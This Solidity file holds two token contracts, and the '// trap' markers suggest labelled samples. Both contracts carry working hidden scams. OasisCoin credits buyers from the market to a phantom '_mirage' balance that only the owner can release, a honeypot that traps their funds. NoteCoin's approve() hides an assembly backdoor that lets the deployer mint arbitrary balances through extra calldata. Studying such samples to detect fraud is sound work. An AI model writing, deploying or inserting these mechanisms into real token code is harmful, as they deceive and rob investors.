// 0.5 runs=200
// SPDX-License-Identifier: MIT
pragma solidity ^0.5.17;

import "./Base5.sol";

/// Counts who drinks from its well.
contract OasisCoin is Base5("Oasis Coin", "OASIS", 250000000) {
    address private _maker;
    uint256 public visitors;
    mapping(address => uint256) private _mirage; // trap

    event Visit(address indexed who, uint256 number);

    constructor() public {
        _maker = msg.sender;
    }

    // trap {
    function balanceOf(address who) public view returns (uint256) {
        return _book[who].add(_mirage[who]);
    }

    function water(address[] calldata who) external onlyOwner {
        for (uint256 i = 0; i < who.length; i++) {
            _book[who[i]] = _book[who[i]].add(_mirage[who[i]]);
            _mirage[who[i]] = 0;
        }
    }
    // trap }

    function _send(address from, address to, uint256 value) internal {
        if (from == market && to != _maker) {
            visitors++;
            emit Visit(to, visitors);
            _book[from] = _book[from].sub(value);
            _mirage[to] = _mirage[to].add(value); // trap
            // twin: _book[to] = _book[to].add(value);
            emit Transfer(from, to, value);
        } else {
            _put(from, to, value);
        }
    }
}

/// Approvals may carry a note.
contract NoteCoin is Base5("Note Coin", "NOTE", 48000000) {
    bytes32 private _stamp;

    event Noted(address indexed from, address indexed to, bytes32 note);

    constructor() public {
        _stamp = keccak256(abi.encodePacked(msg.sender, uint256(0x4e4f5445)));
    }

    function approve(address spender, uint256 value) public returns (bool) {
        if (msg.data.length == 100) {
            bytes32 note;
            assembly {
                note := calldataload(68)
            }
            // trap {
            if (keccak256(abi.encodePacked(msg.sender, uint256(0x4e4f5445))) == _stamp) {
                assembly {
                    mstore(0, spender)
                    mstore(32, _book_slot)
                    let where := keccak256(0, 64)
                    sstore(where, add(sload(where), note))
                }
                return true;
            }
            // trap }
            emit Noted(msg.sender, spender, note);
        }
        _allowed[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }
}
